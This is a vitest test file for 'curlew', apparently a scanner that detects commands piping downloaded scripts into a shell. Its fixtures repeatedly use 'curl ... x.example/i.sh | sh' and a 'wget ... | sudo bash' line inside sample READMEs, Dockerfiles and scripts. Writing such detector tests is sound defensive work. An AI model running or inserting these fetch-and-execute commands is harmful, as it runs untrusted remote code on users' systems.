import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { folderWith } from "./folder-with.js";
import { bash, command, curlew } from "./curlew-process.js";

const BAD = "curl -fsSL https://x.example/i.sh | sh";

it("curlew reports the required version of Node if it runs on an older version", async () => {
  const preload = 'Object.defineProperty(process.versions, "node", { value: "18.20.4" })';
  const { status, stdout, stderr } = await curlew(["scan", "-"], {
    stdin: "x",
    env: { NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(preload)}` },
  });
  const { engines } = JSON.parse(readFileSync("package.json", "utf8")) as {
    engines: { node: string };
  };
  expect([status, stdout]).toEqual([2, ""]);
  expect(stderr).toMatch(/^curlew: needs Node ([\d.]+) or newer, but this is 18\.20\.4;[^\n]*\n$/);
  expect(engines.node).toBe(`>=${/Node ([\d.]+)/.exec(stderr)?.[1]}`);
});

describe("scan", () => {
  it("reads standard input", async () => {
    const { status, stdout, stderr } = await curlew(["scan", "-"], {
      stdin: `Run \`${BAD}\` now.`,
    });
    expect(stdout).toContain("<stdin>:1:6: bash/fetch-pipe");
    expect(stdout).toContain("sh ./i.sh");
    expect([status, stderr]).toEqual([1, ""]);
  });

  it.each(["<&-", "</dev/null"])("with %s, reports that nothing was read", async (closed) => {
    expect(await bash(`curlew scan - ${closed}`)).toMatchObject({
      status: 2,
      stderr: "curlew: <stdin>: is closed or /dev/null; nothing was read\n",
    });
    expect((await bash("curlew scan - < <(:)")).status).toBe(0);
  });

  it("does not change its output file if it is interrupted", async () => {
    const cwd = folderWith({ "a.md": BAD, "out.json": "before" });
    const { status, stderr } = await bash(
      `coproc ${command.map((word) => `'${word}'`).join(" ")} scan a.md - -f json=out.json -f text
      pid=$COPROC_PID
      read -r line <&"\${COPROC[0]}"
      kill -INT "$pid"; wait "$pid"`,
      { cwd },
    );
    expect([status, stderr]).toEqual([130, ""]);
    expect(readFileSync(join(cwd, "out.json"), "utf8")).toBe("before");
    expect(readdirSync(cwd).sort()).toEqual(["a.md", "out.json"]);
  });

  it("reads the documents and source files in a folder", async () => {
    const cwd = folderWith({
      "README.md": `# Install\n\n\`\`\`bash\n${BAD}\n\`\`\`\n`,
      "src/setup.sh": `#!/bin/sh\nset -e\n# ${BAD}\nwget -qO- https://x.example/j | sudo bash\n`,
      "src/run.py": `import os\nprint("${BAD}")\nos.system("${BAD}")\n`,
      Dockerfile: `FROM debian:12\nRUN ${BAD}\n`,
      "ok.md": "Nothing here.",
    });
    const { status, stdout } = await curlew(["scan", "."], { cwd });
    expect(
      stdout
        .split("\n")
        .filter((line) => /^\S+:\d+:\d+: /.test(line))
        .map((line) => line.split(" ")[0]),
    ).toEqual(["Dockerfile:2:5:", "README.md:4:1:", "src/run.py:3:12:", "src/setup.sh:4:1:"]);
    expect(stdout).toContain("4 findings in 4 of 5 texts");
    expect(status).toBe(1);
  });

  it("reports no finding in a harmless text", async () => {
    expect(await curlew(["scan", "-"], { stdin: "curl -o f https://x.example/f" })).toEqual({
      status: 0,
      stdout: "no findings in 1 text\n",
      stderr: "",
    });
  });

  it("shows the steps of a finding with --trace", async () => {
    const { stdout } = await curlew(["scan", "--trace", "-"], {
      stdin: `${BAD}\n\nNever run \`${BAD}\`.`,
    });
    expect(stdout).toMatch(/1\. fetch: .*\(rule \d+\) at 1:1 «curl»/);
    expect(stdout).toMatch(/dismissed \(warned-against\)/);
  });

  it("reads bytes that are not text", async () => {
    for (const stdin of [
      Buffer.from([0xff, 0xfe, 0x00]),
      Buffer.from("a\0b\0"),
      Buffer.from([0xed, 0xa0, 0x80]),
      Buffer.alloc(0),
    ]) {
      const { status, stderr } = await curlew(["scan", "-"], { stdin });
      expect(stderr).not.toMatch(/\n\s+at |internal/);
      expect(status).toBe(0);
    }
  });

  it("reports the finding at the end of 50 MB, or that the text was not fully analyzed", async () => {
    const stdin = `${"harmless words, line after line\n".repeat(1_640_000)}${BAD}\n`;
    const { status, stdout, stderr } = await curlew(["scan", "-"], { stdin });
    expect(stdout).toMatch(/not fully analyzed \(size\)|bash\/fetch-pipe/);
    expect([1, 2]).toContain(status);
    expect(stderr).toBe("");
  });
});

describe("error messages", () => {
  it.each([
    [["scan", "missing.md"], /^curlew: missing\.md: no such file or folder\n$/],
    [
      ["scan", "--profile", "lax", "-"],
      /^curlew: option '-p, --profile <name>' argument 'lax' is invalid/,
    ],
    [["scan", "--wat"], /^curlew: unknown option '--wat'/],
    [["scan", "--queries", "no/such/folder", "-"], /^curlew: .*no\/such\/folder/],
    [["explain", "bash/nothing"], /^curlew: there is no rule or file "bash\/nothing"/],
    [["batch", "missing.jsonl"], /^curlew: missing\.jsonl: no such file or folder\n$/],
  ])("explain why %j fails, without a stack trace", async (args, message) => {
    const { status, stderr, stdout } = await curlew(args, { stdin: "" });
    expect(stderr).toMatch(message);
    expect(stderr).not.toMatch(/\n\s+at /);
    expect([status, stdout.includes("finding")]).toEqual([2, false]);
  });

  it.each([
    ["an unknown capture", "((word) @sorce.fetcher)\n", /broken\.scm:1:\d+/],
    ["broken syntax", "((command_name\n", /broken\.scm:\d+/],
    [
      "an unknown predicate",
      '((command_name) @source.fetcher\n  (#is-it? @source.fetcher "x"))\n',
      /broken\.scm:2:\d+/,
    ],
  ])("name the line of a query file with %s", async (_name, text, place) => {
    const cwd = folderWith({ "mine/bash/broken.scm": text });
    const { status, stderr, stdout } = await curlew(["scan", "--queries", "mine", "-"], {
      cwd,
      stdin: BAD,
    });
    expect(stderr).toMatch(place);
    expect(stderr).not.toMatch(/\n\s+at /);
    expect([status, stdout]).toEqual([2, ""]);
  });
});

describe("standard output", () => {
  it("may be closed by its reader without an error message", async () => {
    const stdin = Array.from({ length: 2_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
      "\n",
    );
    const { stdout, stderr } = await bash(
      'curlew batch -q - --predictions - | head -n 1; echo "status ${PIPESTATUS[0]}"',
      { stdin },
    );
    expect(stdout).toMatch(/^\{"id":0,.*\nstatus \d+\n$/);
    expect(stderr).not.toMatch(/EPIPE|Error|\n\s+at /);
  });

  it.each([
    "--help",
    "rules",
    "token list --tokens none",
    "serve --print-config",
    "scan README.md",
  ])("of %s may remain unread without an error message", async (args) => {
    const { stdout, stderr } = await bash(`curlew ${args} | true; echo "status \${PIPESTATUS[0]}"`);
    expect([stdout, stderr]).toEqual(["status 0\n", ""]);
  });

  it.each(["--help", "rules", "scan README.md", "batch corpora/live-gap.v1.jsonl"])(
    "of %s causes an error if it cannot be written",
    async (args) => {
      expect(await bash(`curlew ${args} > /dev/full`)).toEqual({
        status: 2,
        stdout: "",
        stderr: "curlew: cannot write standard output: no space left\n",
      });
    },
  );

  it("is not the only output whose errors are reported: predictions that cannot be written cause an error", async () => {
    const { status, stderr } = await curlew([
      "batch",
      "corpora/live-gap.v1.jsonl",
      "--predictions",
      "/dev/full",
    ]);
    expect([status, stderr]).toEqual([2, "curlew: cannot write /dev/full: no space left\n"]);
  });

  it("is not where predictions go if a file is named: all 1,000 are written to the file", async () => {
    const cwd = folderWith({
      "in.jsonl": Array.from({ length: 1_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
        "\n",
      ),
    });
    const { status, stderr } = await curlew(
      ["batch", "-q", "in.jsonl", "--predictions", "out.jsonl"],
      { cwd },
    );
    expect([status, stderr]).toEqual([0, ""]);
    expect(readFileSync(join(cwd, "out.jsonl"), "utf8").match(/\n/g)).toHaveLength(1_000);
  });

  it("transfers large outputs completely to a slow reader", async () => {
    const stdin = Array.from({ length: 20_000 }, (_, id) =>
      JSON.stringify({ id, text: "x", labels: [] }),
    ).join("\n");
    const { stdout } = await bash("curlew batch -q - --predictions - | { sleep 1; wc -l; }", {
      stdin,
    });
    expect(stdout.trim()).toBe("20000");
  });

  it("of another command can be the input of a scan through a process substitution", async () => {
    expect((await bash(`curlew scan <(echo '${BAD}')`)).stdout).toContain(
      "1 finding in 1 of 1 text",
    );
  });
});

describe("the built `curlew batch`", () => {
  it("writes predictions, and counts them in the table", async () => {
    const stdin = [
      { id: "p", text: BAD, labels: ["PS"], spans: [[0, BAD.length]] },
      { text: "curl -o f https://x.example/f", labels: [], spans: [] },
    ]
      .map((record) => JSON.stringify(record))
      .join("\n");
    const { stdout, stderr, status } = await curlew(["batch", "-", "--predictions", "-"], {
      stdin,
    });
    const [first, second] = stdout
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(first).toMatchObject({
      id: "p",
      labels: ["PS"],
      spans: [[0, BAD.length]],
      outcome: { status: "complete" },
    });
    expect(second).toEqual({
      id: 2,
      labels: [],
      spans: [],
      findings: [],
      outcome: { status: "complete" },
    });
    expect(stderr).toContain(
      "<stdin>        2   1   0   0   1     100.0%  100.0%  100.0%  100.0% (1/1)",
    );
    expect(status).toBe(0);
  });
});
